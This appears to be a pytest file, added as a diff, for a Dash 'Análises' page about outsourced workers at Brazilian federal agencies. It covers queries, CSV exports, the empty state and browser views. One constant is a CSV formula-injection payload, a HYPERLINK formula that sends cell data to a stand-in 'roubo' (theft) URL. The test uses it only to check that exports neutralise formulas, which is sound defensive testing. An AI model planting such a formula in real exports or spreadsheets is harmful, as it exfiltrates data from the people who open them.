@@ -1,0 +1,474 @@
+"""The "Análises" page (pipelines/results/analyses.py) on marts built by the real flows: its
+queries against an independent reference, the CSV exports (complete, formula-safe), the empty
+state, and the views in headless Chromium, in a small Dash app with the page alone and in the
+results app with the page registered as app.py will register it."""
+
+from __future__ import annotations
+
+import contextlib
+import csv
+import io
+import os
+import threading
+import time
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from dash import Dash, html
+
+from pipelines.results import analyses
+from pipelines.results.formatting import brl, integer
+from pipelines.results.queries import ResultsRepository, make_engine
+from pipelines.settings import load_settings
+from tests.conftest import query
+from tests.test_marts import (
+    UFJF,
+    capture_and_materialize,
+    changes_reference,
+    connect,
+    marts_hold_the_whole_portal,
+    reference,
+)
+
+ROOT = Path(__file__).resolve().parent.parent
+ASSETS = ROOT / "pipelines" / "results" / "assets"
+CHROMIUM = "/usr/bin/chromium"
+CHROMIUM_ARGS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+]
+IPANEMA = "00588541000182"
+NEWEST, PREVIOUS = (2024, 5), (2023, 9)
+FORMULA = '=HYPERLINK("http://exemplo.invalido/roubo?c="&B2,"Ver detalhes")'
+
+
+@pytest.fixture(scope="module")
+def marts(settings, portal):
+    """The marts of the whole test portal, built by the real flows (kept from tests/test_marts.py
+    when it ran first and left them so)."""
+    conn = connect(settings)
+    if not marts_hold_the_whole_portal(conn, portal):
+        capture_and_materialize(settings, portal)
+    assert marts_hold_the_whole_portal(conn, portal)
+    yield conn
+    conn.close()
+
+
+@pytest.fixture(scope="module")
+def ref(portal):
+    return reference(portal)
+
+
+@pytest.fixture(scope="module")
+def repo(settings):
+    repository = ResultsRepository(make_engine(settings))
+    yield analyses.AnalysesRepository(repository.engine)
+    repository.engine.dispose()
+
+
+def small_app(settings) -> Dash:
+    """A Dash app with the page alone, registered with the results app's repository."""
+    app = Dash(__name__, suppress_callback_exceptions=True, assets_folder=str(ASSETS), title="Terceirizados · análises")
+    app.layout = html.Div([html.Header([html.H1("Terceirizados de Órgãos Federais")]), html.Main(analyses.layout())])
+    analyses.register_callbacks(app, ResultsRepository(make_engine(settings)))
+    return app
+
+
+@contextlib.contextmanager
+def serve(app):
+    from werkzeug.serving import make_server
+
+    server = make_server("127.0.0.1", 0, app.server, threaded=True)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield f"http://127.0.0.1:{server.server_port}"
+    finally:
+        server.shutdown()
+
+
+def read_csv(response) -> list[list[str]]:
+    assert response.status_code == 200, response.get_data(as_text=True)
+    assert response.mimetype == "text/csv"
+    return list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
+
+
+# -- queries ----------------------------------------------------------------------------------
+
+
+def test_an_organ_and_a_company_match_the_reference(marts, ref, repo):
+    periods = ref["periodos"]
+    assert repo.published_periods() == periods
+    series = repo.series("orgao", UFJF)
+    assert [(r["ano"], r["mes"]) for r in series] == periods
+    assert [(r["quantidade_terceirizados"], r["valor_custo_mensal_total"]) for r in series] == [
+        (ref["orgaos"][p, UFJF]["quantidade_terceirizados"], ref["orgaos"][p, UFJF]["valor_custo_mensal_total"])
+        for p in periods
+    ]
+    newest = ref["orgaos"][NEWEST, UFJF]
+    contracts = repo.contracts("orgao", UFJF, *NEWEST, limit=10_000)
+    assert len(contracts) == newest["quantidade_contratos"] == contracts[0]["total"]
+    assert sum(c["quantidade_terceirizados"] for c in contracts) == newest["quantidade_terceirizados"]
+    assert sum(c["valor_custo_mensal_total"] for c in contracts) == newest["valor_custo_mensal_total"]
+    costs = [c["valor_custo_mensal_total"] for c in contracts]
+    assert costs == sorted(costs, reverse=True)
+    companies = repo.partners("orgao", UFJF, *NEWEST, limit=10_000)
+    assert len(companies) == newest["quantidade_empresas"]
+    assert sum(c["valor_custo_mensal_total"] for c in companies) == newest["valor_custo_mensal_total"]
+    assert {c["razao_social_empresa"] for c in companies} <= {
+        v["razao_social_empresa"] for (p, k), v in ref["empresas"].items() if p == NEWEST
+    }
+
+    company = ref["empresas"][NEWEST, IPANEMA]
+    series = repo.series("empresa", IPANEMA)
+    assert [r["valor_custo_mensal_total"] for r in series] == [
+        ref["empresas"][p, IPANEMA]["valor_custo_mensal_total"] if (p, IPANEMA) in ref["empresas"] else 0
+        for p in periods
+    ]
+    organs = repo.partners("empresa", IPANEMA, *NEWEST, limit=10_000)
+    assert len(organs) == company["quantidade_orgaos"]
+    assert sum(o["quantidade_terceirizados"] for o in organs) == company["quantidade_terceirizados"]
+    contracts = repo.contracts("empresa", IPANEMA, *NEWEST, limit=10_000)
+    assert len(contracts) == company["quantidade_contratos"]
+    assert sum(c["valor_custo_mensal_total"] for c in contracts) == company["valor_custo_mensal_total"]
+
+    options = repo.entity_options("empresa", "ipanema")
+    assert [o["value"] for o in options] == [f"empresa:{IPANEMA}"]
+    assert options[0]["label"] == "IPANEMA EMPRESA DE SERVICOS GERAIS E TRANSPORTES LTDA – CNPJ 00.588.541/0001-82"
+    assert [o["value"] for o in repo.entity_options("empresa", "00.588.541")] == [f"empresa:{IPANEMA}"]
+    assert [o["label"] for o in repo.entity_options("orgao", "juiz de fóra")] == [
+        "UFJF – UNIVERSIDADE FEDERAL DE JUIZ DE FORA (MEC)"
+    ]
+    organs = repo.entity_options("orgao")
+    assert len(organs) == 10 and organs[-1]["label"] == "(órgão não informado) (MT)"  # the unnamed one last
+
+
+def test_the_largest_changes_between_the_last_two_publications(marts, ref, repo):
+    comparison = repo.comparison()
+    assert (
+        comparison.year,
+        comparison.month,
+        comparison.previous_year,
+        comparison.previous_month,
+        comparison.missing_between,
+    ) == (*NEWEST, *PREVIOUS, 1)
+    assert analyses.comparison_text(comparison).startswith(
+        "De 09/2023 (publicação anterior) para 05/2024 (a mais recente); 1 período do calendário não está no portal"
+    )
+    for kind in ("orgao", "empresa"):
+        expected = {k: v for (y, m, k), v in changes_reference(ref, kind).items() if (y, m) == NEWEST}
+        for measure, position in (("terceirizados", (2, 3)), ("custo", (4, 5))):
+            deltas = {k: v[position[0]] - v[position[1]] for k, v in expected.items()}
+            grew = repo.changes(kind, measure, "aumentos", comparison, limit=1000)
+            fell = repo.changes(kind, measure, "quedas", comparison, limit=1000)
+            column = "variacao_terceirizados" if measure == "terceirizados" else "variacao_custo"
+            assert [r["chave"] for r in grew] == [
+                k for k, d in sorted(deltas.items(), key=lambda i: (-i[1], i[0])) if d > 0
+            ], (kind, measure)
+            assert [r["chave"] for r in fell] == [
+                k for k, d in sorted(deltas.items(), key=lambda i: (i[1], i[0])) if d < 0
+            ], (kind, measure)
+            assert all(r[column] == deltas[r["chave"]] for r in grew + fell)
+            assert all((r["ano_anterior"], r["mes_anterior"]) == PREVIOUS for r in grew + fell)
+
+
+def test_every_view_answers_fast(marts, repo):
+    comparison = repo.comparison()
+    calls = {
+        "opções": lambda: repo.entity_options("empresa", "servicos"),
+        "série": lambda: repo.series("orgao", UFJF),
+        "contratos": lambda: repo.contracts("empresa", IPANEMA, *NEWEST),
+        "parceiros": lambda: repo.partners("orgao", UFJF, *NEWEST),
+        "variações": lambda: repo.changes("orgao", "custo", "quedas", comparison),
+    }
+    for label, call in calls.items():
+        call()
+        started = time.perf_counter()
+        call()
+        assert time.perf_counter() - started < 0.3, label
+
+
+# -- exports -----------------------------------------------------------------------------------
+
+
+def test_every_view_exports_all_its_rows_as_csv(marts, ref, settings):
+    client = small_app(settings).server.test_client()
+    rows = read_csv(client.get(analyses.export_href("serie", tipo="orgao", chave=UFJF)))
+    assert rows[0][:3] == ["ano", "mes", "sigla_orgao_superior_unidade_gestora"]
+    assert [(r[0], r[1], r[6]) for r in rows[1:]] == [
+        (str(y), str(m), str(ref["orgaos"][(y, m), UFJF]["quantidade_terceirizados"])) for y, m in ref["periodos"]
+    ]
+    contracts = read_csv(client.get(analyses.export_href("contratos", tipo="orgao", chave=UFJF)))
+    assert len(contracts) - 1 == ref["orgaos"][NEWEST, UFJF]["quantidade_contratos"]  # all, not the 20 shown
+    assert (
+        sum(Decimal(r[contracts[0].index("valor_custo_mensal_total")]) for r in contracts[1:])
+        == ref["orgaos"][NEWEST, UFJF]["valor_custo_mensal_total"]
+    )
+    organs = read_csv(client.get(analyses.export_href("parceiros", tipo="empresa", chave=IPANEMA)))
+    assert len(organs) - 1 == ref["empresas"][NEWEST, IPANEMA]["quantidade_orgaos"]
+    fell = read_csv(client.get(analyses.export_href("quedas", tipo="empresa", medida="custo")))
+    grew = read_csv(client.get(analyses.export_href("aumentos", tipo="empresa", medida="custo")))
+    changes = {k: v for (y, m, k), v in changes_reference(ref, "empresa").items() if (y, m) == NEWEST}
+    assert len(fell) + len(grew) - 2 == sum(1 for v in changes.values() if v[4] != v[5])
+    column = fell[0].index("variacao_custo")
+    assert all(r[column].startswith("-") and Decimal(r[column]) < 0 for r in fell[1:])  # numbers: no apostrophe
+
+
+def test_exports_neutralise_formulas_like_the_table_export(marts, settings):
+    where = "WHERE chave_empresa = %s AND (ano, mes) = (%s, %s)"
+    [(original,)] = query(
+        marts, f"SELECT razao_social_empresa FROM marts.empresas_por_periodo {where}", (IPANEMA, *NEWEST)
+    )
+    with marts.cursor() as cursor:
+        cursor.execute(
+            f"UPDATE marts.empresas_por_periodo SET razao_social_empresa = %s {where}", (FORMULA, IPANEMA, *NEWEST)
+        )
+    try:
+        client = small_app(settings).server.test_client()
+        [(organ,)] = query(
+            marts,
+            "SELECT min(chave_orgao) FROM marts.contratos_por_periodo WHERE chave_empresa = %s "
+            "AND (ano, mes) = (%s, %s)",
+            (IPANEMA, *NEWEST),
+        )
+        companies = read_csv(client.get(analyses.export_href("parceiros", tipo="orgao", chave=organ)))
+        names = [r[companies[0].index("razao_social_empresa")] for r in companies[1:]]
+        assert "'" + FORMULA in names and FORMULA not in names
+        series = read_csv(client.get(analyses.export_href("serie", tipo="empresa", chave=IPANEMA)))
+        assert series[-1][series[0].index("razao_social_empresa")] == "'" + FORMULA
+        amounts = series[-1][series[0].index("valor_custo_mensal_total")]
+        assert Decimal(amounts) > 0  # numbers stay numbers
+    finally:
+        with marts.cursor() as cursor:
+            cursor.execute(
+                f"UPDATE marts.empresas_por_periodo SET razao_social_empresa = %s {where}", (original, IPANEMA, *NEWEST)
+            )
+
+
+def test_invalid_exports_are_refused(marts, settings):
+    client = small_app(settings).server.test_client()
+    for href in (
+        "/analises/exportar.csv?visao=tabela&tipo=orgao",
+        "/analises/exportar.csv?visao=serie&tipo=pais",
+        "/analises/exportar.csv?visao=serie&tipo=orgao",
+        "/analises/exportar.csv?visao=aumentos&tipo=orgao",
+        "/analises/exportar.csv?visao=serie&tipo=orgao&chave=a%00b",
+    ):
+        response = client.get(href)
+        assert response.status_code == 400, href
+        assert response.get_data(as_text=True).startswith("Exportação inválida: "), href
+    # an organ that does not exist has an empty series (zeros), never an error
+    rows = read_csv(client.get(analyses.export_href("contratos", tipo="orgao", chave='["X", "Y", "Z"]')))
+    assert len(rows) == 1
+
+
+def test_without_marts_the_page_says_which_commands_fill_them(settings, browser):
+    import psycopg2
+    from psycopg2 import sql
+
+    name = settings.postgres_db + "_sem_marts"
+    admin = psycopg2.connect(**settings.postgres_dsn("postgres"))
+    admin.autocommit = True
+    with admin.cursor() as cursor:
+        cursor.execute(sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(sql.Identifier(name)))
+        cursor.execute(sql.SQL("CREATE DATABASE {}").format(sql.Identifier(name)))
+    try:
+        app = small_app(load_settings({**os.environ, "POSTGRES_DB": name}))
+        export = app.server.test_client().get(analyses.export_href("serie", tipo="orgao", chave=UFJF))
+        assert export.status_code == 404
+        text = export.get_data(as_text=True)
+        assert (
+            text.startswith(analyses.MISSING_MESSAGE)
+            and "python run/historic_capture.py" in text
+            and "python run/historic_materialize.py" in text
+        )
+        with serve(app) as url:
+            page = browser.new_page(viewport={"width": 1400, "height": 900})
+            page.goto(url)
+            page.wait_for_selector("#analises-vazio")
+            notice = page.inner_text("#analises-vazio")
+            assert notice.startswith("As tabelas de análise ainda não foram construídas.")
+            assert ".venv/bin/python run/historic_capture.py\n.venv/bin/python run/historic_materialize.py" in notice
+            assert not page.is_visible("#analises-conteudo")
+            page.close()
+    finally:
+        with admin.cursor() as cursor:
+            cursor.execute(sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(sql.Identifier(name)))
+        admin.close()
+
+
+# -- in headless Chromium --------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def browser():
+    from playwright.sync_api import sync_playwright
+
+    assert Path(CHROMIUM).exists(), "Chromium do Debian ausente: rode `make test` (instala o pacote chromium)"
+    with sync_playwright() as playwright:
+        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+        yield launched
+        launched.close()
+
+
+def screenshot(page, selector, name):
+    """Fresh screenshots for the README when SAVE_SCREENSHOTS=1 (each under 300 KB)."""
+    if os.environ.get("SAVE_SCREENSHOTS") == "1":
+        path = ROOT / "images" / name
+        page.locator(selector).screenshot(path=str(path))
+        assert path.stat().st_size < 300_000, (name, path.stat().st_size)
+
+
+def wait_text(page, selector, text):
+    page.wait_for_function(
+        "([s, t]) => { const e = document.querySelector(s); return e && e.innerText.includes(t); }",
+        arg=[selector, text],
+        timeout=20_000,
+    )
+
+
+def cells(page, grid, column):
+    return page.locator(f"{grid} .ag-center-cols-container .ag-cell[col-id='{column}']").all_inner_texts()
+
+
+def grid_row(page, grid, index):
+    return {
+        cell.get_attribute("col-id"): cell.inner_text()
+        for cell in page.locator(f"{grid} .ag-row[row-index='{index}'] .ag-cell").all()
+    }
+
+
+def test_browser_shows_an_organ_a_company_and_the_largest_changes(marts, ref, settings, browser):
+    newest = ref["orgaos"][NEWEST, UFJF]
+    with serve(small_app(settings)) as url:
+        page = browser.new_page(viewport={"width": 1400, "height": 1000})
+        page.goto(url)
+        wait_text(page, "#analises-info", "5 períodos publicados, de 01/2019 a 05/2024")
+        info = page.inner_text("#analises-info")
+        assert "12 períodos do calendário (janeiro, maio e setembro) não estão no portal" in info
+        # an organ: searchable dropdown
+        page.click("#analises-entidade")
+        page.keyboard.type("juiz de fora")
+        wait_text(page, "#analises-entidade", "UFJF – UNIVERSIDADE FEDERAL DE JUIZ DE FORA (MEC)")
+        page.keyboard.press("Enter")
+        wait_text(page, "#analises-resumo", "UFJF – UNIVERSIDADE FEDERAL DE JUIZ DE FORA (MEC)")
+        summary = page.inner_text("#analises-resumo")
+        assert (
+            f"último período publicado em que aparece: 05/2024 · {integer(newest['quantidade_terceirizados'])} "
+            f"terceirizados · custo mensal {brl(newest['valor_custo_mensal_total'])}" in summary
+        )
+        assert f"custo médio por terceirizado {brl(newest['valor_custo_medio'])}" in summary
+        page.wait_for_selector("#analises-serie .ag-row[row-index='4']")
+        assert cells(page, "#analises-serie", "periodo") == ["01/2019", "01/2021", "05/2022", "09/2023", "05/2024"]
+        last = grid_row(page, "#analises-serie", 4)
+        assert last["quantidade_terceirizados"] == integer(newest["quantidade_terceirizados"])
+        assert last["valor_custo_mensal_total"] == brl(newest["valor_custo_mensal_total"])
+        assert last["razao_custo_salario"] == f"{newest['razao_custo_salario']:.2f}".replace(".", ",")
+        assert last["parceiros"] == integer(newest["quantidade_empresas"])
+        wait_text(page, "#analises-contratos-titulo", "Contratos em 05/2024")
+        assert (
+            page.inner_text("#analises-contratos-titulo")
+            == f"Contratos em 05/2024: {integer(newest['quantidade_contratos'])} contratos"
+        )
+        shown = [
+            Decimal(c.removeprefix("R$ ").replace(".", "").replace(",", "."))
+            for c in cells(page, "#analises-contratos", "valor_custo_mensal_total")
+        ]
+        assert sum(shown) == newest["valor_custo_mensal_total"] and shown == sorted(shown, reverse=True)
+        assert (
+            page.inner_text("#analises-parceiros-titulo")
+            == f"Empresas em 05/2024: {integer(newest['quantidade_empresas'])} empresas"
+        )
+        assert "terceirizados e custo mensal por período publicado" in page.inner_text("#analises-grafico")
+        tick = page.locator("#analises-grafico .y2tick text").first.text_content()
+        assert tick == "R$ 0"
+        assert page.get_attribute("#analises-contratos-exportar", "href") == analyses.export_href(
+            "contratos", tipo="orgao", chave=UFJF
+        )
+        screenshot(page, "#analises-entidade-secao", "analises_orgao.png")
+
+        # a company
+        company = ref["empresas"][NEWEST, IPANEMA]
+        page.click("#analises-tipo label:has-text('Empresa')")
+        wait_text(page, "#analises-resumo", "CNPJ")
+        page.click("#analises-entidade")
+        page.keyboard.type("00588541")
+        wait_text(page, "#analises-entidade", "IPANEMA EMPRESA DE SERVICOS GERAIS E TRANSPORTES LTDA")
+        page.keyboard.press("Enter")
+        wait_text(page, "#analises-resumo", "IPANEMA")
+        assert (
+            f"{integer(company['quantidade_terceirizados'])} terceirizados · custo mensal "
+            f"{brl(company['valor_custo_mensal_total'])}" in page.inner_text("#analises-resumo")
+        )
+        wait_text(page, "#analises-parceiros-titulo", "Órgãos em 05/2024")
+        assert (
+            page.inner_text("#analises-parceiros-titulo")
+            == f"Órgãos em 05/2024: {integer(company['quantidade_orgaos'])} órgãos"
+        )
+        organs = cells(page, "#analises-parceiros", "nome")
+        served = query(
+            marts,
+            "SELECT DISTINCT coalesce(sigla_orgao || ' – ' || nome_orgao, '(órgão não informado)') "
+            "FROM staging.historic_transformed WHERE cnpj_empresa = %s AND (ano, mes) = (%s, %s)",
+            (IPANEMA, *NEWEST),
+        )
+        assert sorted(organs) == sorted(name for (name,) in served) and len(organs) == company["quantidade_orgaos"]
+        last = grid_row(page, "#analises-serie", 4)
+        assert last["observacao"] == company["razao_social_empresa"]
+        assert last["parceiros"] == integer(company["quantidade_orgaos"])
+        assert page.get_attribute("#analises-serie-exportar", "href") == analyses.export_href(
+            "serie", tipo="empresa", chave=IPANEMA
+        )
+        screenshot(page, "#analises-entidade-secao", "analises_empresa.png")
+
+        # the largest changes, both directions
+        wait_text(page, "#analises-variacoes-info", "De 09/2023 (publicação anterior) para 05/2024")
+        page.click("#analises-variacoes-medida label:has-text('Custo mensal')")
+        changes = {k: v for (y, m, k), v in changes_reference(ref, "orgao").items() if (y, m) == NEWEST}
+        deltas = sorted(((v[4] - v[5], k) for k, v in changes.items()), reverse=True)
+        top_key = deltas[0][1]
+        top = ref["orgaos"][NEWEST, top_key]
+        expected_first = brl(deltas[0][0])
+        page.wait_for_function(
+            "([t]) => { const c = document.querySelector("
+            "\"#analises-aumentos .ag-row[row-index='0'] .ag-cell[col-id='variacao_custo']\");"
+            " return c && c.innerText === t; }",
+            arg=["+" + expected_first],
+            timeout=20_000,
+        )
+        first = grid_row(page, "#analises-aumentos", 0)
+        assert first["valor_custo_mensal_total"] == brl(top["valor_custo_mensal_total"])
+        falls = cells(page, "#analises-quedas", "variacao_custo")
+        assert falls and all(value.startswith("-R$ ") for value in falls)
+        assert falls[0] == "-" + brl(-deltas[-1][0])
+        screenshot(page, "#analises-variacoes-secao", "analises_variacoes.png")
+        english = [
+            w
+            for w in ("No Rows To Show", "Loading...", "Select...", "No results found")
+            if w in page.inner_text("body")
+        ]
+        assert english == []
+        page.close()
+
+
+def test_the_page_inside_the_results_app(marts, settings, browser):
+    """The results app registers the page (menu, layout, callbacks): the menu link opens it
+    and its callbacks pass the app's request guard."""
+    from pipelines.results import app as results_app
+
+    repository = ResultsRepository(make_engine(settings))
+    app = results_app.create_app(settings, repository)
+    with serve(app) as url:
+        page = browser.new_page(viewport={"width": 1400, "height": 1000})
+        page.goto(url + "/tabelas")
+        page.click("#nav-analises")
+        wait_text(page, "#analises-info", "5 períodos publicados")
+        page.wait_for_selector("#analises-contratos .ag-row")
+        page.wait_for_selector("#analises-aumentos .ag-row")
+        assert page.locator("#db-down").count() == 0
+        page.close()
